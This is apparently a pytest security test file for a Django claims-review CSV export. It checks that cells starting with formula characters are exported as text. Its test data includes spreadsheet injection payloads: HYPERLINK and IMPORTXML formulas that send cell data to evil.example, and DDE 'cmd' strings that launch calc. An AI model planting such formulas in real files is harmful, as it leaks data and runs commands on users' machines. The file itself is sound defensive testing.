"""CSV formula injection: the reviewers' queue export opens in a spreadsheet, so no cell may
start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (a spreadsheet would run it
as a formula). Values that do are exported as text, with a leading apostrophe."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from claims.models import Claim
from claims.tests.factories import MpnFactory, PartnerFactory, ProductFactory, TenantFactory, UserFactory
from lib.csv_export import FORMULA_PREFIXES, csv_safe
from review.tests.helpers import queue_claim
from tests.helpers import login
from tests.security.conftest import tally

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
    "==1",
    "-",
]


@pytest.fixture
def planted(reviewer1, db):
    """Queue claims whose exported text starts with a formula, in every exported text column."""
    rows = []
    for i, formula in enumerate(FORMULAS):
        partner = PartnerFactory(name=f"{formula} #{i}")
        tenant = TenantFactory(name=formula)
        product = ProductFactory(code=f"formula-{i}", name=formula)
        claim = queue_claim(
            mpn=MpnFactory(partner=partner),
            tenant=tenant,
            products=[product],
            due_in=dt.timedelta(days=1, minutes=i),
            customer_contact_name=formula,
            customer_contact_email="ada@customer.example",
        )
        Claim.objects.filter(pk=claim.pk).update(
            customer_domain=formula, assignee=UserFactory(username=f"u{i}"), customer_contact_title=formula
        )
        rows.append(claim)
    # a claim whose tenant did not resolve: the typed tenant ID is exported instead
    claim = queue_claim(due_in=dt.timedelta(days=2))
    Claim.objects.filter(pk=claim.pk).update(tenant=None, customer_tenant_id="=1+1")
    rows.append(claim)
    return rows


def _export(client) -> list[list[str]]:
    response = client.get(reverse("review:export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_no_exported_cell_starts_a_formula(client, reviewer1, planted):
    login(client, reviewer1)
    table = _export(client)
    header, rows = table[0], table[1:]
    assert len(rows) == len(planted)
    cells = 0
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            cells += 1
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
    # each planted value is there, as text
    exported = {cell for row in rows for cell in row}
    for formula in FORMULAS:
        assert "'" + formula in exported, formula
    assert "'=1+1" in exported  # the typed tenant ID
    # what is not a claim column stays out (contact details are personal data)
    assert not any("ada@customer.example" in cell for cell in exported)
    tally("CSV formula cells", len(FORMULAS) * 5 + 1)


def test_the_filtered_export_is_neutralised_too(client, reviewer1, planted):
    login(client, reviewer1)
    response = client.get(reverse("review:export"), {"q": "=", "order": "-due"})
    assert response.status_code == 200
    for row in csv.reader(io.StringIO(b"".join(response.streaming_content).decode())):
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", " =1"),  # a leading space makes it text already
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        ("'=1", "'=1"),
    ],
)
def test_csv_safe(value, shown):
    assert csv_safe(value) == shown
